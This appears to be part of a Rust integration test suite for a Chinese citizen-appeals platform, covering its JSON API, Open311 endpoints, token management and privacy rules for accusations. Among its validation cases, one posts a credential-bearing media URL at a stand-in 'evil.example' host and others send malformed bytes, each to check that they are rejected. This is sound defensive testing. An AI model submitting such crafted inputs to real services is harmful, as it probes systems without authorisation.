    assert_eq!(status, StatusCode::FORBIDDEN);
    let slj = app.token("slj.handler").await;
    let (status, _) = app
        .api(Method::GET, &format!("/appeals/{no}"), &slj, None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // The handler works the case: list, accept at the version read, a stale version
    // refused with 409, a refused step with 422 and the workflow's reason.
    let (status, page) = app
        .api(Method::GET, "/appeals?mine=true&limit=10", &handler, None)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page["items"]
            .as_array()
            .expect("items")
            .iter()
            .any(|a| a["no"] == no.as_str())
    );
    let (_, appeal) = app
        .api(Method::GET, &format!("/appeals/{no}"), &handler, None)
        .await;
    let read = appeal["version"].as_i64().expect("version");
    let (status, signed) = app
        .api(
            Method::POST,
            &format!("/appeals/{no}/actions"),
            &handler,
            Some(serde_json::json!({"action": "sign_for", "version": read})),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{signed}");
    let version = signed["version"].as_i64().expect("version");
    assert_eq!(version, read + 1);
    let (status, stale) = app
        .api(
            Method::POST,
            &format!("/appeals/{no}/actions"),
            &handler,
            Some(serde_json::json!({"action": "reply", "version": read, "text": "已修复"})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{stale}");
    assert_eq!(stale["error"]["code"], "stale_version");
    // Stale and no longer allowed in the newer state: stale is said first.
    let (status, stale) = app
        .api(
            Method::POST,
            &format!("/appeals/{no}/actions"),
            &handler,
            Some(serde_json::json!({"action": "sign_for", "version": read})),
        )
        .await;
    assert_eq!(status, StatusCode::CONFLICT, "{stale}");
    let (status, done) = app
        .api(Method::POST, &format!("/appeals/{no}/actions"), &handler,
             Some(serde_json::json!({"action": "reply", "version": version, "text": "已更换楼道灯，请群众确认"})))
        .await;
    assert_eq!(status, StatusCode::OK, "{done}");
    assert_eq!(done["version"].as_i64(), Some(version + 1));
    let (status, body) = app
        .api(
            Method::POST,
            &format!("/appeals/{no}/actions"),
            &handler,
            Some(serde_json::json!({"action": "fly", "version": version + 1})),
        )
        .await;
    assert_eq!(
        (status, body["error"]["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("action"))
    );
    let (status, timeline) = app
        .api(
            Method::GET,
            &format!("/appeals/{no}/timeline"),
            &handler,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        timeline
            .as_array()
            .expect("events")
            .iter()
            .any(|e| e["step"] == "reply")
    );

    // No category: the catch-all, with the 12345 centre to sort it.
    let (status, created) = app
        .api(
            Method::POST,
            "/appeals",
            &call,
            Some(serde_json::json!({
                "text": "说不清归哪个部门管的事", "region": V21, "channel": "hotline",
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let (_, unsorted) = app
        .api(
            Method::GET,
            &format!("/appeals/{}", created["no"].as_str().expect("no")),
            &call,
            None,
        )
        .await;
    assert_eq!(unsorted["category"], "qita");
    assert_eq!(unsorted["lead_unit"]["name"], "县委群众工作部（12345热线）");

    // Paging: a cursor, a bad cursor, a bad limit.
    for i in 0..3 {
        let (status, _) = app.api(Method::POST, "/appeals", &call, Some(serde_json::json!({
            "text": format!("路灯不亮（{i}）"), "category": "chengxiang", "region": V21, "channel": "hotline",
        }))).await;
        assert_eq!(status, StatusCode::CREATED);
    }
    let (_, first) = app.api(Method::GET, "/appeals?limit=3", &call, None).await;
    assert_eq!(first["items"].as_array().map(Vec::len), Some(3));
    let next = first["next"].as_str().expect("next").to_owned();
    let (_, second) = app
        .api(
            Method::GET,
            &format!("/appeals?limit=3&cursor={next}"),
            &call,
            None,
        )
        .await;
    assert_eq!(second["items"].as_array().map(Vec::len), Some(3));
    assert_eq!(first["total"], 6);
    assert!(second["next"].is_null());
    assert_ne!(first["items"][0]["no"], second["items"][0]["no"]);
    for q in [
        "cursor=zz",
        "cursor=",
        "limit=0",
        "limit=500",
        "status=nope",
        "status=",
        "township=12",
        "wat=1",
    ] {
        let (status, body) = app
            .api(Method::GET, &format!("/appeals?{q}"), &call, None)
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{q}: {body}");
    }

    // Reference lists; staff only for administrators.
    let (status, units) = app.api(Method::GET, "/units", &call, None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        units
            .as_array()
            .expect("units")
            .iter()
            .any(|u| u["key"] == "zjj")
    );
    let (_, regions) = app.api(Method::GET, "/regions", &call, None).await;
    assert!(
        regions
            .as_array()
            .expect("regions")
            .iter()
            .any(|r| r["code"] == V21 && r["level"] == "village")
    );
    let (_, categories) = app.api(Method::GET, "/categories", &call, None).await;
    assert!(
        categories
            .as_array()
            .expect("categories")
            .iter()
            .any(|c| c["code"] == "gongre")
    );
    let (status, _) = app.api(Method::GET, "/staff", &call, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let admin = app.token("admin").await;
    let (status, staff) = app.api(Method::GET, "/staff", &admin, None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        staff
            .as_array()
            .expect("staff")
            .iter()
            .any(|s| s["username"] == "zjj.handler")
    );
    let (status, body) = app.api(Method::GET, "/nothing", &admin, None).await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (StatusCode::NOT_FOUND, Some("not_found"))
    );

    // A revoked token, and a deactivated account's token, stop at once.
    let core = minsheng_app::App::new(app.store.clone());
    let listed = core.api_token_list(None).await.expect("tokens");
    let slj_token = listed
        .iter()
        .find(|t| t.username == "slj.handler")
        .expect("slj token");
    assert!(slj.starts_with(&slj_token.prefix) && !slj_token.prefix.is_empty());
    core.revoke_api_token(None, slj_token.id)
        .await
        .expect("revoke");
    let (status, _) = app.api(Method::GET, "/units", &slj, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let member = core
        .staff_account_named(None, "zjj.handler")
        .await
        .expect("member");
    core.set_staff_account_active(None, member.staff.id, false)
        .await
        .expect("deactivate");
    let (status, _) = app.api(Method::GET, "/units", &handler, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // Activated again, the account's old tokens stay revoked.
    core.set_staff_account_active(None, member.staff.id, true)
        .await
        .expect("activate");
    let (status, _) = app.api(Method::GET, "/units", &handler, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);

    // Every change above is in the audit chain, and it holds.
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

/// The OpenAPI document is made from the code; this snapshot shows every change to the
/// API's contract in review. After a deliberate change, refresh it with
/// `MINSHENG_UPDATE_SNAPSHOTS=1 cargo test -p minsheng-web --test integration openapi`.
#[tokio::test]
async fn the_openapi_document_is_served_and_matches_its_snapshot() {
    let app = app("openapi").await;
    let r = app
        .client
        .get(format!("{}/api/openapi.json", app.base))
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::OK);
    let doc: serde_json::Value = r.json().await.expect("json");
    assert!(
        doc["openapi"]
            .as_str()
            .is_some_and(|v| v.starts_with("3.1")),
        "{}",
        doc["openapi"]
    );
    for path in [
        "/api/v1/appeals",
        "/api/v1/appeals/{no}",
        "/api/v1/appeals/{no}/actions",
        "/api/v1/units",
    ] {
        assert!(doc["paths"][path].is_object(), "{path} missing");
    }
    assert_eq!(
        doc["components"]["securitySchemes"]["bearer"]["scheme"],
        "bearer"
    );
    let pretty = serde_json::to_string_pretty(&doc).expect("pretty") + "\n";
    let snapshot =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/openapi.snapshot.json");
    if std::env::var_os("MINSHENG_UPDATE_SNAPSHOTS").is_some() {
        std::fs::write(&snapshot, &pretty).expect("write snapshot");
    }
    let stored = std::fs::read_to_string(&snapshot).expect("snapshot (see the test's comment)");
    assert!(
        stored == pretty,
        "the OpenAPI document changed; refresh the snapshot if meant (see the test's comment)"
    );

    // The docs page and its script come from here.
    let (status, page) = app.get("/api/docs", "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.contains("/static/api-docs.js") && !page.contains("http"),
        "no outside links: {page}"
    );
    let (status, script) = app.get("/static/api-docs.js", "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(script.contains("/api/openapi.json"));
}

#[tokio::test]
async fn administrators_make_list_and_revoke_api_tokens_in_the_console() {
    let app = app("tokens").await;
    let handler = app.login("zjj.handler").await;
    let (status, _) = app.get("/staff/admin/tokens", &handler).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let admin = app.login("admin").await;

    // Bad days, an unknown account: said on the page, nothing made.
    for (form, says) in [
        (vec![("username", "callcenter1"), ("days", "0")], "有效天数"),
        (vec![("username", "nobody"), ("days", "")], "没有这个账号"),
    ] {
        let r = app.post("/staff/admin/tokens", &admin, &form).await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert!(r.text().await.expect("body").contains(says));
    }
    let r = app
        .post(
            "/staff/admin/tokens",
            &admin,
            &[
                ("username", "callcenter1"),
                ("name", "12345 平台"),
                ("days", "30"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("body");
    let token = between(&page, "data-test=\"new-token\">", "<");
    assert!(token.starts_with("mst_"), "{token}");

    // It works, is listed by its prefix only, and stops when revoked.
    let (status, _) = app.api(reqwest::Method::GET, "/units", &token, None).await;
    assert_eq!(status, StatusCode::OK);
    let (_, list) = app.get("/staff/admin/tokens", &admin).await;
    assert!(list.contains("12345 平台") && list.contains(&token[..12]) && !list.contains(&token));
    let id = between(&list, "action=\"/staff/admin/tokens/", "/revoke");
    let r = app
        .post(&format!("/staff/admin/tokens/{id}/revoke"), &admin, &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (status, _) = app.api(reqwest::Method::GET, "/units", &token, None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (_, list) = app.get("/staff/admin/tokens", &admin).await;
    assert!(list.contains("已吊销"));
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

impl App {
    /// A GET of an Open311 path: status, content type and body.
    async fn open311_get(&self, path: &str) -> (StatusCode, String, String) {
        let r = self
            .client
            .get(format!("{}/open311/v2/{path}", self.base))
            .send()
            .await
            .expect("get");
        let kind = r.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .to_owned();
        (r.status(), kind, r.text().await.expect("body"))
    }

    /// A POST of an Open311 request (form-encoded): status and body.
    async fn open311_post(&self, format: &str, form: &[(&str, &str)]) -> (StatusCode, String) {
        let r = self
            .client
            .post(format!("{}/open311/v2/requests.{format}", self.base))
            .form(form)
            .send()
            .await
            .expect("post");
        (r.status(), r.text().await.expect("body"))
    }
}

/// Everything in the test county.
fn county_scope() -> minsheng_core::staff::Scope {
    minsheng_core::staff::Scope {
        regions: vec![code("370999000000")],
        units: vec![],
        above: Vec::new(),
    }
}

/// Reads an XML document through; returns its root element's name and every element
/// name in order (a malformed document fails the test).
fn xml_names(xml: &str) -> (String, Vec<String>) {
    use quick_xml::events::Event;
    assert!(
        xml.starts_with(r#"<?xml version="1.0" encoding="UTF-8"?>"#),
        "{xml}"
    );
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut names = Vec::new();
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Start(e) | Event::Empty(e) => {
                names.push(e.name().into_inner().to_owned());
            }
            Event::Eof => break,
            _ => {}
        }
    }
    (names.first().cloned().unwrap_or_default(), names)
}

#[tokio::test]
async fn open311_clients_discover_post_and_read_requests_in_json_and_xml() {
    let app = app("open311").await;
    let use_cases = minsheng_app::App::new(app.store.clone());
    // Villages with centroids, and heating asks its extra fields.
    app.store
        .apply_regions(
            &minsheng_core::region_import::RegionPlan {
                locate: vec![(code(V11), (35.10, 117.20)), (code(V21), (35.30, 117.50))],
                ..Default::default()
            },
            &[],
            None,
        )
        .await
        .expect("centroids");
    let mut heating = app
        .store
        .categories()
        .await
        .expect("categories")
        .into_iter()
        .find(|c| c.code == "gongre")
        .expect("gongre");
    heating.fields = minsheng_core::category::ExtraField::parse_lines(
        "meter | 热力表号 | 文本 | 是\nkind | 问题类型 | 单选 | 否 | 不热/漏水/收费\nwho | 涉及人群 | 多选 | 否 | 老人/儿童/病人",
    )
    .expect("fields");
    app.store
        .save_categories(&[heating], None)
        .await
        .expect("save");
    let (_, key) = use_cases
        .create_api_key(None, "城市通 App")
        .await
        .expect("key");

    // Discovery and services, in both formats.
    let (status, kind, body) = app.open311_get("discovery.json").await;
    assert_eq!(status, StatusCode::OK);
    assert!(kind.starts_with("application/json"));
    let discovery: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert!(
        discovery["endpoints"][0]["url"]
            .as_str()
            .expect("url")
            .ends_with("/open311/v2")
    );
    let (status, kind, body) = app.open311_get("discovery.xml").await;
    assert_eq!(status, StatusCode::OK);
    assert!(kind.starts_with("text/xml"));
    let (root, names) = xml_names(&body);
    assert_eq!(root, "discovery");
    assert!(names.contains(&"endpoint".to_owned()) && names.contains(&"format".to_owned()));
    let (_, _, body) = app.open311_get("services.json").await;
    let services: serde_json::Value = serde_json::from_str(&body).expect("json");
    let heating = services
        .as_array()
        .expect("list")
        .iter()
        .find(|s| s["service_code"] == "gongre")
        .expect("heating is a service");
    assert_eq!(heating["metadata"], true);
    assert_eq!(heating["service_name"], "供热");
    let (_, _, body) = app.open311_get("services.xml").await;
    let (root, names) = xml_names(&body);
    assert_eq!(root, "services");
    assert!(names.iter().filter(|n| *n == "service").count() > 10);
    let (status, _, body) = app.open311_get("services/gongre.json").await;
    assert_eq!(status, StatusCode::OK);
    let definition: serde_json::Value = serde_json::from_str(&body).expect("json");
    let attributes = definition["attributes"].as_array().expect("attributes");
    assert_eq!(attributes.len(), 3);
    assert_eq!(attributes[0]["code"], "meter");
    assert_eq!(attributes[0]["required"], true);
    assert_eq!(attributes[1]["datatype"], "singlevaluelist");
    assert_eq!(attributes[2]["datatype"], "multivaluelist");
    assert_eq!(attributes[2]["values"][1]["key"], "儿童");
    let (_, _, body) = app.open311_get("services/gongre.xml").await;
    let (root, names) = xml_names(&body);
    assert_eq!(root, "service_definition");
    assert_eq!(names.iter().filter(|n| *n == "attribute").count(), 3);
    for (path, field) in [
        ("services/nope.json", "service_code"),
        ("requests/MS2026-999999.json", "service_request_id"),
        ("tokens/nosuchtoken.json", "token"),
        ("services.csv", "format"),
    ] {
        let (status, _, body) = app.open311_get(path).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        let errors: serde_json::Value = serde_json::from_str(&body).expect("json");
        assert_eq!(errors[0]["code"], 404, "{path}");
        assert!(
            errors[0]["description"]
                .as_str()
                .expect("description")
                .starts_with(field),
            "{path}: {body}"
        );
    }
    let (status, _, body) = app.open311_get("services/nope.xml").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(xml_names(&body).0, "errors");

    // A request by its point lands in the nearest village, with its answers.
    let post = |extra: &[(&'static str, &'static str)]| {
        let mut form = vec![("api_key", key.as_str()), ("service_code", "gongre")];
        form.extend_from_slice(extra);
        form
    };
    let (status, body) = app
        .open311_post(
            "json",
            &post(&[
                ("lat", "35.301"),
                ("long", "117.499"),
                ("description", "暖气一直不热，请回电13800138000"),
                ("first_name", "三"),
                ("last_name", "张"),
                ("phone", "13800138000"),
                ("attribute[meter]", "HT-0042"),
                ("attribute[who][]", "老人"),
                ("attribute[who][]", "儿童"),
                ("jurisdiction_id", "chenghe"),
            ]),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let made: serde_json::Value = serde_json::from_str(&body).expect("json");
    let no = made[0]["service_request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let token = made[0]["token"].as_str().expect("token").to_owned();
    let detail = app
        .store
        .appeal(
            &minsheng_core::AppealNo::parse(&no).expect("no"),
            &county_scope(),
        )
        .await
        .expect("stored");
    assert_eq!(detail.summary.region_code, code(V21));
    assert_eq!(detail.summary.channel, minsheng_core::Channel::Api);
    assert_eq!(detail.appellant.name.as_deref(), Some("张三"));
    let answers: Vec<(&str, Vec<&str>)> = detail
        .answers
        .iter()
        .map(|a| {
            (
                a.code.as_str(),
                a.values.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    assert_eq!(
        answers,
        [("meter", vec!["HT-0042"]), ("who", vec!["老人", "儿童"])]
    );

    // By address, by region code or name, or nowhere: never refused for lack of a place.
    for (extra, village) in [
        (vec![("address_string", "柳林镇李官屯村东头路灯旁")], V21),
        (vec![("address_id", V11)], V11),
        (vec![("address_id", "幸福社区")], V11),
        (
            vec![("address_string", "人民路与建设路交叉口")],
            "370999000000",
        ),
        (vec![("lat", "39.9"), ("long", "116.4")], "370999000000"),
    ] {
        let mut extra = extra;
        extra.push(("attribute[meter]", "HT-1"));
        extra.push(("description", "暖气不热"));
        let (status, body) = app.open311_post("xml", &post(&extra)).await;
        assert_eq!(status, StatusCode::OK, "{extra:?}: {body}");
        let (root, _) = xml_names(&body);
        assert_eq!(root, "service_requests");
        let no = between(&body, "<service_request_id>", "<");
        let stored = app
            .store
            .appeal(
                &minsheng_core::AppealNo::parse(&no).expect("no"),
                &county_scope(),
            )
            .await
            .expect("stored");
        assert_eq!(stored.summary.region_code, code(village), "{extra:?}");
    }

    // Bad posts: the standard's errors, naming the field.
    let (revoked, _) = use_cases.create_api_key(None, "旧平台").await.expect("key");
    use_cases
        .revoke_api_key(None, revoked.id)
        .await
        .expect("revoke");
    let revoked_key = format!("{}{}", revoked.prefix, "0".repeat(42));
    for (form, status, field) in [
        (
            vec![
                ("service_code", "gongre"),
                ("lat", "35.1"),
                ("long", "117.2"),
            ],
            StatusCode::FORBIDDEN,
            "api_key",
        ),
        (
            vec![
                ("api_key", revoked_key.as_str()),
                ("service_code", "gongre"),
                ("lat", "35.1"),
                ("long", "117.2"),
            ],
            StatusCode::FORBIDDEN,
            "api_key",
        ),
        (
            post(&[("attribute[meter]", "1")]),
            StatusCode::BAD_REQUEST,
            "lat",
        ),
        (
            vec![
                ("api_key", key.as_str()),
                ("service_code", "nope"),
                ("lat", "35.1"),
                ("long", "117.2"),
            ],
            StatusCode::BAD_REQUEST,
            "service_code",
        ),
        (
            post(&[("lat", "35.1"), ("long", "117.2")]),
            StatusCode::BAD_REQUEST,
            "attribute[meter]",
        ),
        (
            post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("attribute[kind]", "好看"),
            ]),
            StatusCode::BAD_REQUEST,
            "attribute[kind]",
        ),
        (
            post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("attribute[colour]", "red"),
            ]),
            StatusCode::BAD_REQUEST,
            "attribute[colour]",
        ),
        (
            post(&[("lat", "north"), ("long", "117.2")]),
            StatusCode::BAD_REQUEST,
            "lat",
        ),
        (
            post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("service_code", "shefa"),
            ]),
            StatusCode::BAD_REQUEST,
            "service_code",
        ),
        (
            post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("phone", "12345"),
            ]),
            StatusCode::BAD_REQUEST,
            "phone",
        ),
    ] {
        let (got, body) = app.open311_post("json", &form).await;
        assert_eq!(got, status, "{form:?}: {body}");
        let errors: serde_json::Value = serde_json::from_str(&body).expect("json");
        assert!(
            errors
                .as_array()
                .expect("errors")
                .iter()
                .any(|e| e["code"] == status.as_u16()
                    && e["description"]
                        .as_str()
                        .is_some_and(|d| d.starts_with(field))),
            "{form:?}: {body}"
        );
    }

    // A report of wrongdoing (举报) is never published.
    let report = use_cases
        .register(
            &minsheng_core::intake::AppealForm {
                channel: "hotline".into(),
                kind: "report".into(),
                category: "gongre".into(),
                township: T1.into(),
                village: V11.into(),
                text: "举报供热站站长收受好处".into(),
                anonymous: "on".into(),
                submission_key: format!("{:032x}", rand::random::<u128>()),
                ..Default::default()
            },
            minsheng_core::intake::Origin::Staff,
            None,
        )
        .await
        .expect("report");
    // A complaint about an official's conduct may be raised through Open311, and is
    // not published: its category is public but not published (the template's).
    let (status, body) = app
        .open311_post(
            "json",
            &[
                ("api_key", key.as_str()),
                ("service_code", "zuofeng"),
                ("address_id", V11),
                ("description", "镇干部张三办事推诿"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let conduct: serde_json::Value = serde_json::from_str(&body).expect("json");
    let conduct = conduct[0]["service_request_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let (status, _, _) = app.open311_get(&format!("requests/{conduct}.json")).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "not published");
    // A help request whose text accuses a unit is not published either.
    let accusing = use_cases
        .register(
            &minsheng_core::intake::AppealForm {
                channel: "web".into(),
                kind: "help".into(),
                category: "gongre".into(),
                township: T1.into(),
                village: V11.into(),
                text: "我要举报城管局李队长，长期向商户索要好处费".into(),
                anonymous: "on".into(),
                submission_key: format!("{:032x}", rand::random::<u128>()),
                ..Default::default()
            },
            minsheng_core::intake::Origin::Portal,
            None,
        )
        .await
        .expect("accusing");
    let (status, _, _) = app
        .open311_get(&format!("requests/{}.json", accusing.no))
        .await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "an accusation is not published"
    );

    // Reading: published requests, without who raised them; long numbers hidden.
    let (status, _, body) = app.open311_get("requests.json").await;
    assert_eq!(status, StatusCode::OK);
    let listed: serde_json::Value = serde_json::from_str(&body).expect("json");
    let listed = listed.as_array().expect("list");
    assert_eq!(listed.len(), 6, "{body}");
    assert!(
        !body.contains("13800138000")
            && !body.contains("张三")
            && !body.contains(report.no.as_str())
            && !body.contains(&conduct)
    );
    let ours = listed
        .iter()
        .find(|r| r["service_request_id"] == no.as_str())
        .expect("ours is listed");
    assert_eq!(ours["status"], "open");
    assert_eq!(ours["description"], "暖气一直不热，请回电***********");
    assert_eq!(ours["service_code"], "gongre");
    assert_eq!(ours["lat"], 35.301);
    assert!(
        ours["agency_responsible"]
            .as_str()
            .is_some_and(|a| !a.is_empty())
    );
    assert!(
        ours["expected_datetime"]
            .as_str()
            .is_some_and(|t| t.ends_with("+08:00"))
    );
    let (status, _, body) = app.open311_get(&format!("requests/{no}.xml")).await;
    assert_eq!(status, StatusCode::OK);
    let (root, names) = xml_names(&body);
    assert_eq!(root, "service_requests");
    assert_eq!(names.iter().filter(|n| *n == "request").count(), 1);
    assert!(body.contains("<status>open</status>"));
    for path in [
        format!("requests/{}.json", report.no),
        "requests.json?status=closed".to_owned(),
        "requests.json?service_code=gongshui".to_owned(),
        "requests.json?start_date=2020-01-01T00:00:00Z&end_date=2020-02-01T00:00:00Z".to_owned(),
    ] {
        let (status, _, body) = app.open311_get(&path).await;
        assert!(
            status == StatusCode::NOT_FOUND || body == "[]",
            "{path}: {status} {body}"
        );
    }
    let (_, _, body) = app
        .open311_get(&format!(
            "requests.json?service_request_id={no},{}",
            report.no
        ))
        .await;
    let by_id: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(by_id.as_array().map(Vec::len), Some(1));
    let (_, _, body) = app
        .open311_get("requests.json?status=open&service_code=gongre")
        .await;
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body)
            .expect("json")
            .as_array()
            .map(Vec::len),
        Some(6)
    );
    for (query, field) in [
        (
            "start_date=2026-01-01T00:00:00Z&end_date=2026-06-01T00:00:00Z",
            "end_date",
        ),
        ("start_date=2026-06-01&end_date=2026-05-01", "start_date"),
        ("start_date=yesterday", "start_date"),
        ("status=pending", "status"),
    ] {
        let (status, _, body) = app.open311_get(&format!("requests.xml?{query}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        assert_eq!(xml_names(&body).0, "errors");
        assert!(
            body.contains(&format!("<description>{field}:")),
            "{query}: {body}"
        );
    }
    let (status, _, body) = app.open311_get(&format!("tokens/{token}.json")).await;
    assert_eq!(status, StatusCode::OK);
    let by_token: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(by_token[0]["service_request_id"], no.as_str());

    // Staff see the answers, on the case page and in the JSON API.
    let admin = app.login("admin").await;
    let (_, page) = app.get(&format!("/staff/appeals/{no}"), &admin).await;
    assert!(page.contains("热力表号") && page.contains("HT-0042") && page.contains("老人、儿童"));
    let bearer = app.token("admin").await;
    let (_, read) = app
        .api(
            reqwest::Method::GET,
            &format!("/appeals/{no}"),
            &bearer,
            None,
        )
        .await;
    assert_eq!(
        read["answers"][1]["values"],
        serde_json::json!(["老人", "儿童"])
    );

    // What XML cannot carry never reaches it; a bad picture address is named.
    let (status, body) = app
        .open311_post(
            "json",
            &post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("description", "x\u{fffe}y\u{ffff}z"),
            ]),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, _, body) = app.open311_get("requests.xml").await;
    assert_eq!(xml_names(&body).0, "service_requests");
    assert!(body.contains("<description>xyz</description>"), "{body}");
    let (status, body) = app
        .open311_post(
            "json",
            &post(&[
                ("lat", "35.1"),
                ("long", "117.2"),
                ("attribute[meter]", "1"),
                ("media_url", "https://user:pw@evil.example/x.jpg"),
            ]),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("media_url: 应为以 http://"), "{body}");
    let raw = app
        .client
        .post(format!("{}/open311/v2/requests.json", app.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("api_key={key}&service_code=gongre&lat=35.1&long=117.2&attribute%5Bmeter%5D=1&description=%FF%FEabc"))
        .send()
        .await
        .expect("post");
    assert_eq!(raw.status(), StatusCode::BAD_REQUEST);
    assert!(raw.text().await.expect("body").contains("body: "));
    // A plain end date takes in the whole day.
    let today = chrono::Utc::now()
        .with_timezone(&minsheng_core::clock::china())
        .format("%Y-%m-%d")
        .to_string();
    let (_, _, body) = app
        .open311_get(&format!(
            "requests.json?start_date={today}&end_date={today}"
        ))
        .await;
    assert!(body.contains(&no), "{body}");

    // Keys in the console: a county administrator makes and revokes them.
    let r = app
        .post("/staff/admin/keys", &admin, &[("name", "网格员 App")])
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("body");
    let console_key = between(&page, "data-test=\"new-key\">", "<");
    assert!(console_key.starts_with("msk_"), "{console_key}");
    let (status, _) = app
        .open311_post(
            "json",
            &[
                ("api_key", console_key.as_str()),
                ("service_code", "chengxiang"),
                ("address_id", V21),
                ("description", "路灯坏了"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (_, list) = app.get("/staff/admin/tokens", &admin).await;
    assert!(list.contains("网格员 App") && !list.contains(&console_key));
    let id = between(&list, "action=\"/staff/admin/keys/", "/revoke");
    let r = app
        .post(&format!("/staff/admin/keys/{id}/revoke"), &admin, &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let handler = app.login("zjj.handler").await;
    let r = app
        .post("/staff/admin/keys", &handler, &[("name", "x")])
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

/// A file made for the core's tests (see its fixtures' README).
fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/../minsheng-core/tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .expect(name)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

impl App {
    /// Posts a multipart form with files (name, content) as `media` parts.
    async fn post_files(
        &self,
        path: &str,
        cookie: &str,
        fields: &[(&str, &str)],
        files: &[(&str, Vec<u8>)],
    ) -> reqwest::Response {
        let mut form = reqwest::multipart::Form::new();
        for (k, v) in fields {
            form = form.text(k.to_string(), v.to_string());
        }
        for (name, bytes) in files {
            form = form.part(
                "media",
                reqwest::multipart::Part::bytes(bytes.clone()).file_name(name.to_string()),
            );
        }
        self.client
            .post(format!("{}{path}", self.base))
            .header("cookie", cookie)
            .multipart(form)
            .send()
            .await
            .expect("post")
    }

    /// One more account in the county's mass-work department, with the test password.
    async fn add_staff(&self, username: &str, name: &str, role: Role, must_change: bool) {
        self.store
            .create_staff(
                &NewStaff {
                    username: username.into(),
                    display_name: name.into(),
                    unit_key: "qzgzb".into(),
                    roles: vec![role],
                    password_hash: hash_password(PASSWORD),
                    must_change_password: must_change,
                },
                None,
            )
            .await
            .expect("staff");
    }

    /// The appeal a portal post (answered with a redirect to its receipt) stored.
    async fn received(&self, r: reqwest::Response) -> (String, minsheng_store::AppealDetail) {
        assert_eq!(
            r.status(),
            StatusCode::SEE_OTHER,
            "{}",
            r.text().await.unwrap_or_default()
        );
        let location = r.headers()["location"].to_str().expect("ascii").to_owned();
        let (_, receipt) = self.get(&location, "").await;
        let no = between(&receipt, "data-test=\"appeal-no\">", "<");
        let detail = self
            .store
            .appeal(
                &minsheng_core::AppealNo::parse(&no).expect("no"),
                &county_scope(),
            )
            .await
            .expect("detail");
        (no, detail)
    }

    /// A GET with headers: status, headers and bytes.
    async fn get_bytes(
        &self,
        path: &str,
        auth: (&str, &str),
    ) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
        let r = self
            .client
            .get(format!("{}{path}", self.base))
            .header(auth.0, auth.1)
            .send()
            .await
            .expect("get");
        let headers = r.headers().clone();
        (r.status(), headers, r.bytes().await.expect("body").to_vec())
    }
}

#[tokio::test]
async fn files_are_taken_by_content_kept_and_shown_only_to_those_allowed() {
    let app = app("files").await;
    let photo = fixture("photo-gps.jpg");
    let letter = fixture("letter.pdf");
    let key = format!("{:032x}", rand::random::<u128>());
    let mut fields = portal_form(&[("text", "路灯坏了，照片和信件附上")]);
